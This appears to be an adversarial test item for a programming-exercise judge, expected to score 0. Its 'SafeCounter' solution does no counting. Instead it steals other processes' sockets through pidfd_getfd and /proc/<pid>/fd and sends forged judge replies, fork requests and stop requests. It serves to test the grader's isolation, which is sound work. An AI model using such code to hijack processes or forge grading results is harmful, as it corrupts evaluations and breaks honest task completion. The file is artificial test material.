"""ATTACK: judge/worker split: take another process's sockets (the worker host's control socket, sibling workers' links to the judge) with pidfd_getfd and /proc/<pid>/fd, and speak for them: forged replies, forged fork and stop requests
EXPECT: 0
ID: "01-steal_judge_sockets"
"""
# %% answer
%%exercise safe_counter
import ctypes
import json
import multiprocessing
import os
import socket

_libc = ctypes.CDLL(None, use_errno=True)
_PIDFD_OPEN, _PIDFD_GETFD = 434, 438          # x86_64 and aarch64 system call numbers
_FORGED = [{"ret": 4}, {"ret": 17}, {"r": 4}, {"forked": [1]}, {"fork": [{"role": "plain"}]}, {"stop": True},
           {"outcome": {"returned": [], "error": None, "failed_call": None}}]


def _frame(message):
    data = json.dumps(message).encode()
    return len(data).to_bytes(4, "big") + data


def _speak_for(sock):
    for message in _FORGED:
        try:
            sock.send(_frame(message), socket.MSG_DONTWAIT)
        except OSError:
            pass


def _steal():
    """Every socket of every other process this one can see."""
    taken = 0
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        pidfd = _libc.syscall(_PIDFD_OPEN, int(name), 0)
        for target in range(3, 48):
            fd = _libc.syscall(_PIDFD_GETFD, pidfd, target, 0) if pidfd >= 0 else -1
            if fd < 0:
                try:
                    fd = os.open(f"/proc/{name}/fd/{target}", os.O_RDWR | os.O_NONBLOCK)
                except OSError:
                    continue
            try:
                _speak_for(socket.socket(fileno=fd))
                taken += 1
            except OSError:
                os.close(fd)
        if pidfd >= 0:
            os.close(pidfd)
    return taken


class SafeCounter:
    """Counts nothing: it tries to answer the judge in the place of other processes."""

    def __init__(self, initial=0, *, ctx=None):
        self._initial = initial
        _steal()

    def increment(self, n=1):
        _steal()

    @property
    def value(self):
        _steal()
        return self._initial
